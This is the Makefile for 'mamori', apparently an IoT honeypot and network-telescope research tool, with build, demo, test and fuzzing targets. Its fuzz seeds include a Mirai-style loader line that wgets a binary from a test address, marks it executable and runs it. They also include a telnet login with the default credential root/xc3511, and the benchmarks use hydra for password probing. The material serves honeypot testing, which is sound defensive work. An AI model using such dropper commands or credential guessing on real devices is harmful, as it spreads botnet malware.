# mamori — the README's two commands:
#   make demo   installs dependencies, builds, synthesises a capture, observes it, replays Mirai-family
#               bots against the honeypot on loopback, surveys a testbed of emulated IoT devices in
#               network namespaces (scan, probe, notify, two rounds), shares its indicators (STIX 2.1
#               export into a TAXII collection, import as another organisation, Crypto-PAn), prints the report
#   make test   installs dependencies, builds, runs every test (plus an ASan+UBSan build and fuzzing)
# make demo ends serving the dashboard on http://127.0.0.1:8080/ until Ctrl-C.
# Both need root for apt-get on a fresh Debian 12 machine; already-installed packages are skipped.

APT_PKGS := build-essential meson ninja-build pkg-config clang libclang-rt-14-dev iproute2 \
            libpcap-dev libmaxminddb-dev libsqlite3-dev libjansson-dev libcmocka-dev libmicrohttpd-dev libseccomp-dev libssl-dev \
            python3 sqlite3 procps chromium fonts-ipafont-gothic telnet busybox
APT_PKGS += zmap tcpdump   # survey: scan (the peer scanner in its test, the capture)
APT_PKGS += dropbear-bin openssh-client   # survey: testbed (SSH devices; a real SSH client in its test)
BENCH_PKGS := tshark time wrk
APT_PKGS += libssh-dev   # survey: probe (SSH password logins)
BENCH_PKGS += nmap hydra   # survey: probe (bench/probe baselines)
APT_PKGS += libcurl4-openssl-dev python3-jsonschema   # share: the TAXII client; the STIX schemas in its test
BUILD := build
ASAN := build-asan
FUZZ := build-fuzz
DEMO := var/demo
FUZZ_SECONDS ?= 15
MESON_TEST_FLAGS ?= --print-errorlogs

.PHONY: all deps deps-apt deps-npm build demo test test-unit test-asan fuzz bench clean

all: build

deps: deps-apt deps-npm

deps-apt:
	@missing=$$(for p in $(APT_PKGS) $(EXTRA_PKGS); do \
	    dpkg-query -W -f='$${Status}\n' $$p 2>/dev/null | grep -q 'install ok installed' || echo $$p; done); \
	if [ -n "$$missing" ]; then \
	    echo "installing:" $$missing; \
	    if [ "$$(id -u)" != 0 ]; then echo "mamori: run as root (apt-get) or install:" $$missing >&2; exit 1; fi; \
	    apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq $$missing >/dev/null; \
	fi
	@command -v npm >/dev/null || { apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq nodejs npm >/dev/null; }

# npm ci again whenever a lockfile is newer than what npm last installed (its hidden lockfile).
deps-npm: node_modules/.package-lock.json web/node_modules/.package-lock.json
	@cd web && npm run --silent build

node_modules/.package-lock.json: package-lock.json
	npm ci --no-audit --no-fund --loglevel=error

web/node_modules/.package-lock.json: web/package-lock.json
	cd web && npm ci --no-audit --no-fund --loglevel=error

$(BUILD)/build.ninja:
	meson setup $(BUILD) -Dwerror=true

build: $(BUILD)/build.ninja
	ninja -C $(BUILD)

demo: deps build
	@mkdir -p $(DEMO)
	rm -rf $(DEMO)/mamori.db $(DEMO)/mamori.db-wal $(DEMO)/mamori.db-shm $(DEMO)/lure.json $(DEMO)/lure-files
	$(BUILD)/mamori synth --out $(DEMO)/telescope.pcap --darknet 198.18.0.0/16,2001:db8:1::/48 \
	    --packets 1000000 --seed 2016
	$(BUILD)/mamori observe --darknet 198.18.0.0/16,2001:db8:1::/48 --read $(DEMO)/telescope.pcap \
	    --db $(DEMO)/mamori.db
	python3 tools/lure_replay.py $(DEMO)/mamori.db $(DEMO)/lure.json $(DEMO)/lure-files
	rm -rf $(DEMO)/notify $(DEMO)/scan-*.csv $(DEMO)/probe-*.jsonl
	tools/survey_demo.sh $(BUILD)/mamori $(DEMO)
	tools/share_demo.sh $(BUILD)/mamori $(DEMO)
	$(BUILD)/mamori report --db $(DEMO)/mamori.db
	@echo "dashboard: open the URL below (Ctrl-C stops it); TAXII 2.1 under /taxii2/ (the curl line above)"
	$(BUILD)/mamori serve --db $(DEMO)/mamori.db --web web/dist --taxii $(DEMO)/taxii.json

test-unit: build
	meson test -C $(BUILD) $(MESON_TEST_FLAGS)

$(ASAN)/build.ninja:
	CC=clang meson setup $(ASAN) -Dwerror=true -Db_sanitize=address,undefined -Db_lundef=false -Db_lto=false \
	    -Dbuildtype=debug

test-asan: $(ASAN)/build.ninja
	ninja -C $(ASAN)
	ASAN_OPTIONS=detect_leaks=1:abort_on_error=1 UBSAN_OPTIONS=halt_on_error=1:print_stacktrace=1 \
	    meson test -C $(ASAN) $(MESON_TEST_FLAGS) --timeout-multiplier 4

$(FUZZ)/build.ninja:
	CC=clang meson setup $(FUZZ) -Dfuzz=true -Dwerror=true -Db_lundef=false -Db_lto=false -Dbuildtype=debugoptimized

fuzz: $(FUZZ)/build.ninja build
	ninja -C $(FUZZ)
	@meson test -C $(FUZZ) --print-errorlogs ubsan-halts >/dev/null || \
	    { cat $(FUZZ)/meson-logs/testlog.txt; exit 1; }
	@mkdir -p var/fuzz/seed/fuzz_observe var/fuzz/seed/fuzz_text var/fuzz/seed/fuzz_decode var/fuzz/seed/fuzz_sketch var/fuzz/seed/fuzz_params
	@$(BUILD)/mamori synth -q --out var/fuzz/seed/full.pcap --darknet 198.18.0.0/16,2001:db8::/48 \
	    --packets 10000 --duration 300 && head -c 3000 var/fuzz/seed/full.pcap >var/fuzz/seed/fuzz_observe/synth.pcap
	@mkdir -p var/fuzz/seed/fuzz_pcapfile && cp var/fuzz/seed/fuzz_observe/synth.pcap var/fuzz/seed/fuzz_pcapfile/ && \
	    python3 tests/integration/pcaptool.py pcapng var/fuzz/seed/fuzz_observe/synth.pcap \
	    var/fuzz/seed/fuzz_pcapfile/synth.pcapng 9
	@printf '198.18.0.0/15,2001:db8::/32' >var/fuzz/seed/fuzz_text/cidr
	@printf '/api/v1/timeseries\0proto\0tcp\0port\0002323\0res\00060' >var/fuzz/seed/fuzz_params/ts
	@printf '1.0.0.0,1.0.0.255,13335,"Cloudflare, Inc."\n' >var/fuzz/seed/fuzz_text/asn
	@mkdir -p var/fuzz/seed/fuzz_telnet var/fuzz/seed/fuzz_shell
	@mkdir -p var/fuzz/seed/fuzz_sink && printf 'jsonl:var/x.jsonl' >var/fuzz/seed/fuzz_sink/spec
	@printf 'wget http://198.18.0.1/\377x; echo "\\"\001' >var/fuzz/seed/fuzz_sink/text
	@printf '\377\373\037\377\372\037\000\120\000\030\377\360root\r\nxc3511\r\000' >var/fuzz/seed/fuzz_telnet/naws
	@printf "Scd /tmp; echo -ne '\\\\x7f\\\\x45' >> upnp; while read i; do echo \$$i; done < /proc/mounts\n/bin/busybox wget http://198.18.0.1/x -O - > d; chmod 777 d; ./d\n(cat .s || cp /bin/echo .s); dd bs=52 count=1 if=.s\n" >var/fuzz/seed/fuzz_shell/loader
	@cp data/personas/router-mips.persona var/fuzz/seed/fuzz_shell/persona && sed -i '1s/^/P/' var/fuzz/seed/fuzz_shell/persona
	@(printf U; cat data/lure/userdb.txt) >var/fuzz/seed/fuzz_shell/userdb
	@printf '\0\0\0\0\0\0\0\0\0\0\0\0\10\0\105\0\0\50\0\1\0\0\100\6\0\0\1\2\3\4\306\22\0\1\0\1\0\27\306\22\0\1\0\0\0\0\120\2\20\0\0\0\0\0' >var/fuzz/seed/fuzz_decode/syn
	@mkdir -p var/fuzz/seed/fuzz_baselines && printf 'MSB\001\001\000\000\000\006\001\027\000\005\000\000\000\000\000\000\000\000\000\044\100\000\000\000\000\000\000\360\077\007\000\000\000\000\000\000\000' >var/fuzz/seed/fuzz_baselines/one
	@mkdir -p var/fuzz/seed/fuzz_notify && printf '\000prefix,isp,asn,abuse\n198.18.0.0/22,"A, Inc",AS64500,abuse@a.example\n' >var/fuzz/seed/fuzz_notify/owners && \
	    (printf '\001'; cat data/notify/letter.en.txt) >var/fuzz/seed/fuzz_notify/letter
	@mkdir -p var/fuzz/seed/fuzz_target var/fuzz/seed/fuzz_scan_reply   # survey: scan
	@printf '198.18.0.0/20\n# c\n198.18.1.5-198.18.1.9\n2001:db8::/120\n8.8.8.8\n' >var/fuzz/seed/fuzz_target/list
	@printf '\0\002\0\0\0\0\001\002\0\0\0\0\002\010\0\105\0\0\050\0\001\0\0\075\006\0\0\306\022\0\012\306\023\377\001\0\027\200\0\0\0\060\071\0\0\0\001\120\022\162\020\0\0\0\0' >var/fuzz/seed/fuzz_scan_reply/synack
	@printf '\001mamori-scan-checkpoint 1\ntargets 256 198.18.0.0/24\nports 23\nperm 256 257 3 1\nkey 000102030405060708090a0b0c0d0e0f\nshard 0 1\nround r\nlanes 1\nlane 0 10\ncomplete 0\n' >var/fuzz/seed/fuzz_scan_reply/ckpt
	@mkdir -p var/fuzz/seed/fuzz_probe_telnet var/fuzz/seed/fuzz_probe_http   # survey: probe
	@printf '\020\377\375\001\377\375\037\377\373\001\377\373\003\r\nrouter login: \000\001Password: \r\nLogin incorrect\r\nrouter login: Password: \r\n\r\nBusyBox v1.22.1 built-in shell (ash)\r\n# ' >var/fuzz/seed/fuzz_probe_telnet/busybox
	@printf '\100HTTP/1.1 401 Unauthorized\r\nServer: GoAhead-Webs\r\nWWW-Authenticate: Digest realm="a", qop="auth", nonce="n1", opaque="o"\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1a\r\n<title>Web Admin</title>xx\r\n0\r\n\r\n' >var/fuzz/seed/fuzz_probe_http/digest
	@mkdir -p var/fuzz/seed/fuzz_testbed_spec && cp tests/integration/testbed.spec var/fuzz/seed/fuzz_testbed_spec/  # survey: testbed
	@mkdir -p var/fuzz/seed/fuzz_anon_pcap var/fuzz/seed/fuzz_anon_text && cp var/fuzz/seed/fuzz_observe/synth.pcap var/fuzz/seed/fuzz_pcapfile/synth.pcapng var/fuzz/seed/fuzz_anon_pcap/ && printf '\001{"src_ip":"192.0.2.1","u":"http://[2001:db8::1]:80/x","n":["198.51.100.0/24"]}' >var/fuzz/seed/fuzz_anon_text/json && printf '\004src,dst\n192.0.2.1,"2001:db8::1"\n' >var/fuzz/seed/fuzz_anon_text/csv && printf '\000{"type":"bundle","objects":[{"type":"ipv4-addr","id":"ipv4-addr--1","value":"192.0.2.1"},{"type":"indicator","id":"indicator--2","pattern":"[ipv4-addr:value = '"'"'192.0.2.1'"'"']","x_ref":"ipv4-addr--1"}]}' >var/fuzz/seed/fuzz_anon_text/stix   # share: anonymize
	@mkdir -p var/fuzz/seed/fuzz_stix_pattern var/fuzz/seed/fuzz_stix_import   # share: import
	@printf "([ipv4-addr:value = '198.51.100.1/32' OR file:hashes.'SHA-256' = 'ab\\\\'c'] FOLLOWEDBY [domain-name:value IN ('a.example')]) WITHIN 600 SECONDS" >var/fuzz/seed/fuzz_stix_pattern/spec   # share: import
	@printf "[a:b[*].c NOT > t'2016-01-01T00:00:00.5Z' AND EXISTS a:'k' AND a:x = h'ab' OR a:y MATCHES b'dGVzdA=='] REPEATS 2 TIMES START t'2016-01-01T00:00:00Z' STOP t'2017-01-01T00:00:00Z'" >var/fuzz/seed/fuzz_stix_pattern/forms   # share: import
	@cp tests/fixtures/share_bundle.json var/fuzz/seed/fuzz_stix_import/   # share: import
	@mkdir -p var/fuzz/seed/fuzz_taxii_params && printf '/taxii2/api1/collections/91a7b528-80eb-42ed-a74d-c6fbd5a26116/objects/\0limit\00050\0match[version]\0first,2024-03-01T00:00:00.5Z\0match[type]\0indicator,malware\0added_after\0002016-11-01T03:04:05Z\0next\0001477969445123456.42\0ABearer x\0application/taxii+json; version=2.1' >var/fuzz/seed/fuzz_taxii_params/objects  # share: taxii
	@mkdir -p var/fuzz/seed/fuzz_stix && printf '{"type":"file","hashes":{"SHA-256":"ab","MD5":"cd"},"name":"\\u20ac","size":1e30}' >var/fuzz/seed/fuzz_stix/file && printf '2016-10-21T11:10:00.123456Z' >var/fuzz/seed/fuzz_stix/time   # share: export
	@for t in $(FUZZ)/fuzz/fuzz_*; do \
	    [ -f $$t ] && [ -x $$t ] || continue; \
	    name=$$(basename $$t); mkdir -p var/fuzz/$$name var/fuzz/crashes var/fuzz/seed/$$name; \
	    echo "fuzzing $$name for $(FUZZ_SECONDS)s"; \
	    $$t -max_total_time=$(FUZZ_SECONDS) -max_len=4096 -print_final_stats=0 \
	        -artifact_prefix=var/fuzz/crashes/$$name- \
	        var/fuzz/$$name var/fuzz/seed/$$name >var/fuzz/$$name.log 2>&1 \
	        || { tail -n 30 var/fuzz/$$name.log; echo "reproduce: $$t var/fuzz/crashes/$$name-*" >&2; \
	             exit 1; }; tail -n 1 var/fuzz/$$name.log; \
	done

test: deps build test-unit test-asan fuzz
	@python3 tests/summary.py $(BUILD)/meson-logs/testlog.json $(ASAN)/meson-logs/testlog.json

bench: deps build
	@$(MAKE) --no-print-directory deps-apt APT_PKGS="$(BENCH_PKGS)"
	bench/observe
	bench/serve
	bench/lure
	bench/scan
	bench/probe
	bench/share   # share: Crypto-PAn against the textbook construction

clean:
	rm -rf $(BUILD) $(ASAN) $(FUZZ)
